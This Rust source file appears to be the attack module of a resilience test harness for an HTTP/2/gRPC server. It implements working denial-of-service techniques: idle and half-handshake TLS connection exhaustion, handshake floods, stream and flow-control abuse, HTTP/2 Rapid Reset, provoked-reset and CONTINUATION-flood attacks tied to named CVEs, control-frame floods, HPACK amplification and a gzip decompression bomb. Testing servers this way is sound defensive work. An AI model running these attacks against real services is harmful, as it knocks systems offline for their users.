//! The attacks.

use std::io;

use tokio::{io::AsyncWriteExt as _, net::TcpStream};

use super::Attacker;
use crate::{
    channels,
    frames::{
        END_HEADERS, END_STREAM, Heard, INITIAL_WINDOW_SIZE, Kind, QUIET_TIME, Wire, code, field,
        frame, message, stream_id,
    },
    members,
};

const WHO_AM_I: &str = members!("WhoAmI");

/// Bytes of a DATA frame of these attacks.
const PART_BYTES: usize = 16_000;

/// A ClientHello that is announced and breaks off: record header, handshake header, version.
const HALF_HELLO: &[u8] = &[
    0x16, 3, 1, 0x02, 0, // a record of 512 bytes
    0x01, 0, 0x01, 0xfc, // a ClientHello of 508
    3, 3, 7, 7, 7, 7, 7, 7,
];

/// Opens TCP connections and says nothing on them.
///
/// # Errors
/// When the system has no more.
pub async fn silent(attacker: &Attacker, count: usize) -> io::Result<Vec<TcpStream>> {
    let mut open = Vec::with_capacity(count);
    for _ in 0..count {
        open.push(attacker.tcp().await?);
    }
    Ok(open)
}

/// Opens TCP connections and begins a handshake on each, but no more.
///
/// # Errors
/// When the system has no more.
pub async fn half_hellos(attacker: &Attacker, count: usize) -> io::Result<Vec<TcpStream>> {
    let mut open = silent(attacker, count).await?;
    for tcp in &mut open {
        // It may have given way to a later one already.
        drop(tcp.write_all(HALF_HELLO).await);
    }
    Ok(open)
}

/// Shakes hands without a certificate, over and over; how many were refused.
pub async fn strangers(attacker: &Attacker, count: usize) -> usize {
    let mut refused = 0;
    for _ in 0..count {
        let refusal = match attacker.connect_as_stranger().await {
            // In TLS 1.3 the alert comes after the client's own end of the handshake.
            Ok(mut wire) => wire.ears.next().await.is_none(),
            Err(_) => true,
        };
        refused += usize::from(refusal);
    }
    refused
}

/// Begins calls on one connection whose messages never come.
///
/// # Errors
/// When the hub does not let it in.
pub async fn open_calls(attacker: &Attacker, count: u32) -> io::Result<(Wire, Heard)> {
    let mut wire = attacker.begin(&[]).await?;
    let block = attacker.call(WHO_AM_I);
    let opened = (0..count)
        .map(|number| frame(Kind::Headers, END_HEADERS, stream_id(number), &block))
        .collect::<Vec<_>>();
    let heard = wire.flood(opened).await;
    Ok((wire, heard))
}

/// Begins calls and sends of each message all but the last byte, as fast as the hub takes them in.
///
/// # Errors
/// When the hub does not let it in, or closes.
pub async fn unfinished(
    attacker: &Attacker,
    calls: u32,
    bytes: usize,
) -> io::Result<(Wire, Heard)> {
    let mut wire = attacker.begin(&[]).await?;
    let block = attacker.call(channels!("GetNotification"));
    let mut whole = message(&vec![0; bytes]);
    whole.pop();
    let mut heard = Heard::default();
    // What a connection may send at first (RFC 9113 section 6.9.2). A stream may send a whole message.
    let mut window = 65_535;
    for number in 0..calls {
        let stream = stream_id(number);
        let head = frame(Kind::Headers, END_HEADERS, stream, &block);
        wire.mouth.say(&head).await?;
        for part in whole.chunks(PART_BYTES) {
            while window < part.len() && !heard.is_over(stream) {
                let Some(came) = wire.ears.next().await else {
                    return Err(io::ErrorKind::ConnectionAborted.into());
                };
                heard.note(&came);
                window += came.window().unwrap_or_default();
            }
            if heard.is_over(stream) {
                break;
            }
            window -= part.len();
            wire.mouth.say(&frame(Kind::Data, 0, stream, part)).await?;
        }
    }
    heard.join(wire.listen(QUIET_TIME).await);
    Ok((wire, heard))
}

/// Calls for answers and gives no window for them.
///
/// # Errors
/// When the hub does not let it in.
pub async fn untaken_answers(
    attacker: &Attacker,
    calls: u32,
    path: &str,
    request: &[u8],
) -> io::Result<(Wire, Heard)> {
    let mut wire = attacker.begin(&[(INITIAL_WINDOW_SIZE, 0)]).await?;
    let block = attacker.call(path);
    let said = (0..calls).map(|number| {
        let stream = stream_id(number);
        let mut call = frame(Kind::Headers, END_HEADERS, stream, &block);
        call.extend(frame(Kind::Data, END_STREAM, stream, &message(request)));
        call
    });
    let heard = wire.flood(said).await;
    Ok((wire, heard))
}

/// Begins calls and breaks each off at once (CVE-2023-44487).
///
/// # Errors
/// When the hub does not let it in.
pub async fn rapid_resets(attacker: &Attacker, count: u32) -> io::Result<Heard> {
    let mut wire = attacker.begin(&[]).await?;
    let block = attacker.call(WHO_AM_I);
    let said = (0..count).map(|number| {
        let stream = stream_id(number);
        let mut call = frame(Kind::Headers, END_HEADERS, stream, &block);
        let cancel = code::CANCEL.to_be_bytes();
        call.extend(frame(Kind::RstStream, 0, stream, &cancel));
        call
    });
    Ok(wire.flood(said).await)
}

/// Begins calls and makes the hub break each off itself, by a window that grows past what there may be
/// (CVE-2025-8671).
///
/// # Errors
/// When the hub does not let it in.
pub async fn provoked_resets(attacker: &Attacker, count: u32) -> io::Result<Heard> {
    let mut wire = attacker.begin(&[]).await?;
    let block = attacker.call(WHO_AM_I);
    let said = (0..count).map(|number| {
        let stream = stream_id(number);
        let mut call = frame(Kind::Headers, END_HEADERS, stream, &block);
        let too_much = 0x7fff_ffff_u32.to_be_bytes();
        call.extend(frame(Kind::WindowUpdate, 0, stream, &too_much));
        call
    });
    Ok(wire.flood(said).await)
}

/// Frames that only keep the hub busy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Chatter {
    /// PING, each to be answered.
    Pings,
    /// SETTINGS, each to be answered.
    Settings,
    /// PRIORITY of streams that there are not.
    Priorities,
    /// WINDOW_UPDATE of the connection.
    Windows,
    /// A kind of frame that nobody knows.
    Unknown,
}

impl Chatter {
    /// Every kind.
    pub const ALL: [Self; 5] = [
        Self::Pings,
        Self::Settings,
        Self::Priorities,
        Self::Windows,
        Self::Unknown,
    ];

    fn frame(self) -> Vec<u8> {
        match self {
            Self::Pings => frame(Kind::Ping, 0, 0, &[7; 8]),
            Self::Settings => frame(Kind::Settings, 0, 0, &[]),
            Self::Priorities => frame(Kind::Priority, 0, 1_001, &[0, 0, 0, 0, 16]),
            Self::Windows => frame(Kind::WindowUpdate, 0, 0, &[0, 0, 0, 1]),
            Self::Unknown => {
                let mut unknown = frame(Kind::Ping, 0, 0, &[7; 8]);
                // The fourth byte is the kind (RFC 9113 section 4.1).
                unknown[3] = 0xfa;
                unknown
            }
        }
    }
}

/// Says so many frames of a kind and reads what is answered.
///
/// # Errors
/// When the hub does not let it in.
pub async fn chatter(attacker: &Attacker, what: Chatter, count: usize) -> io::Result<Heard> {
    let mut wire = attacker.begin(&[]).await?;
    let chunk = what.frame().repeat(100);
    Ok(wire
        .flood(std::iter::repeat_n(chunk, count.div_ceil(100)))
        .await)
}

/// Says frames that are to be answered and reads nothing, until the hub takes no more or closes.
///
/// # Errors
/// When the hub does not let it in.
pub async fn deaf_chatter(attacker: &Attacker, count: usize) -> io::Result<Wire> {
    let mut wire = attacker.begin(&[]).await?;
    let chunk = Chatter::Pings.frame().repeat(100);
    for _ in 0..count.div_ceil(100) {
        let said = tokio::time::timeout(QUIET_TIME, wire.mouth.say(&chunk));
        if !matches!(said.await, Ok(Ok(()))) {
            break;
        }
    }
    Ok(wire)
}

/// Headers that do not end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Endless {
    /// CONTINUATION frames with a little in each (CVE-2024-27316).
    Continued,
    /// CONTINUATION frames with nothing in them.
    Empty,
    /// One long field in the compression table, and a byte for each time it is repeated.
    Repeated,
}

impl Endless {
    /// Every kind.
    pub const ALL: [Self; 3] = [Self::Continued, Self::Empty, Self::Repeated];

    fn parts(self, attacker: &Attacker, count: usize) -> Vec<Vec<u8>> {
        let mut block = attacker.call(WHO_AM_I);
        let continued = |payload: &[u8]| frame(Kind::Continuation, 0, 1, payload);
        match self {
            Self::Continued | Self::Empty => {
                let payload = match self {
                    Self::Continued => field("x-note", [b'n'; 1_000]),
                    _ => vec![],
                };
                let mut parts = vec![frame(Kind::Headers, 0, 1, &block)];
                parts.extend(std::iter::repeat_n(continued(&payload), count));
                parts
            }
            Self::Repeated => {
                // A literal with incremental indexing (RFC 7541 section 6.2.1) is entry 62 from then on.
                let mut long = field("x-note", [b'n'; 3_000]);
                long[0] = 0x40;
                block.extend(long);
                let repeated = 0x80 | 62;
                block.extend(std::iter::repeat_n(repeated, 10_000));
                vec![frame(Kind::Headers, END_HEADERS | END_STREAM, 1, &block)]
            }
        }
    }
}

/// Sends headers that do not end, or that are far longer than they look.
///
/// # Errors
/// When the hub does not let it in.
pub async fn endless_headers(
    attacker: &Attacker,
    what: Endless,
    count: usize,
) -> io::Result<(Wire, Heard)> {
    let mut wire = attacker.begin(&[]).await?;
    let heard = wire.flood(what.parts(attacker, count)).await;
    Ok((wire, heard))
}

/// A gzip whose content is zeros, about 1,300 times as long as it: one fixed Huffman block (RFC 1951
/// section 3.2.6) of a literal and matches of 258 bytes. Its checksum is left out; who unpacks comes to
/// it last.
#[must_use]
pub fn gzip_bomb(matches: usize) -> Vec<u8> {
    let mut bits = Bits::default();
    // The last block, with fixed codes.
    bits.push(0b1, 1);
    bits.push(0b01, 2);
    // Literal 0 is 0011_0000; Huffman codes go in from their first bit on.
    bits.push_code(0b0011_0000, 8);
    for _ in 0..matches {
        // Length 258 is 1100_0101, distance 1 is 00000.
        bits.push_code(0b1100_0101, 8);
        bits.push_code(0, 5);
    }
    bits.push_code(0, 7);
    let head = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    [&head[..], &bits.bytes].concat()
}

/// Bits of a deflate stream, the lowest of a byte first.
#[derive(Debug, Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn push(&mut self, value: u32, count: u32) {
        for at in 0..count {
            if self.used == 0 {
                self.bytes.push(0);
            }
            let bit = u8::from(value >> at & 1 == 1);
            *self.bytes.last_mut().unwrap() |= bit << self.used;
            self.used = (self.used + 1) % 8;
        }
    }

    fn push_code(&mut self, value: u32, count: u32) {
        for at in (0..count).rev() {
            self.push(value >> at & 1, 1);
        }
    }
}
